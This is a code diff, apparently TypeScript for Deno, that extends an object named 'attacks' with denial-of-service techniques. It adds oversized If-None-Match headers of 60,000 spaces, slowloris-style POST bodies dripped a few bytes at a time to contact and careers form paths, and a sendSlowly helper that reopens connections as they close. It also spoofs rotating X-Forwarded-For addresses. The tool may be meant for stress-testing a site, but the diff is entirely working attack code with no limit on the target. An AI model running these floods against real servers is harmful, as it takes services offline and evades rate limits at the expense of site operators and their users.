@@ -70,6 +70,31 @@ const attacks = {
     return answers;
   },
 
+  /** Each address sends 25 known tags of 60,000 spaces a second, all together 50. */
+  "long tags": (orders: Orders) =>
+    request(orders, Math.min(25 * orders.addresses, 50), () => [paths.privacy, {
+      headers: { "if-none-match": `"a${" ".repeat(60_000)}b"` },
+    }]),
+
+  /** 285 inquiries, a byte per 200 ms. */
+  "dripping forms": (orders: Orders) =>
+    sendSlowly(orders, 285, 5, () => ({
+      path: paths.contact,
+      type: "application/x-www-form-urlencoded",
+      length: 5_000,
+      start: "name=",
+    })),
+
+  /** 32 files of 10 MB at 26 kB a second. */
+  "slow files": (orders: Orders) =>
+    sendSlowly(orders, 32, 26_000, () => ({
+      path: paths.careers,
+      type: "multipart/form-data; boundary=x",
+      length: 10_400_000,
+      start:
+        '--x\r\nContent-Disposition: form-data; name="resume"; filename="cv.pdf"\r\n\r\n%PDF-1.7\n',
+    })),
+
   /** A hundred applications with 10 MB each at once. */
   async "large resumes"({ url, addresses }: Orders) {
     const answers: Answers = { rendered: 0 };
@@ -107,6 +132,45 @@ const attacks = {
   },
 };
 
+/** Sends bodies that never end, at so many bytes a second each, and again after each response. */
+async function sendSlowly(
+  { url, addresses, seconds }: Orders,
+  connections: number,
+  bytesPerSecond: number,
+  form: () => { path: string; type: string; length: number; start: string },
+): Promise<Answers> {
+  const answers: Answers = { rendered: 0 };
+  const { hostname, port } = new URL(url);
+  const end = performance.now() + seconds * 1_000;
+  const share = new Uint8Array(Math.ceil(bytesPerSecond / 5)).fill(97);
+  const { path, type, length, start } = form();
+  const send = async (n: number) => {
+    const head =
+      `POST ${path} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ${address(n % addresses)}\r\n` +
+      `Content-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n${start}`;
+    while (performance.now() < end) {
+      const connection = await Deno.connect({ hostname, port: Number(port) });
+      let isAnswered = false;
+      const answer = new Uint8Array(1_024);
+      const reading = connection.read(answer).catch(() => null).then((size) => {
+        isAnswered = true;
+        const text = new TextDecoder().decode(answer.subarray(0, size ?? 0));
+        if (performance.now() < end) count(answers, Number(text.split(" ")[1] ?? 0));
+      });
+      await connection.write(new TextEncoder().encode(head));
+      while (!isAnswered && performance.now() < end) {
+        await pause(200);
+        await connection.write(share).catch(() => {});
+      }
+      connection.close();
+      await reading;
+    }
+  };
+  const all = Array.from({ length: connections }, (_, n) => send(n).catch(() => {}));
+  await Promise.all(all);
+  return answers;
+}
+
 /** Sends requests at a steady rate; at most 1,000 are open. */
 async function request(
   { url, addresses, seconds }: Orders,
@@ -120,7 +184,7 @@ async function request(
   let n = 0;
   const send = async () => {
     const [path, init] = create(n);
-    const headers = { "x-forwarded-for": address(n++ % addresses) };
+    const headers = { ...init?.headers, "x-forwarded-for": address(n++ % addresses) };
     try {
       const answer = await fetch(url + path, { ...init, headers, client });
       await answer.body?.cancel();
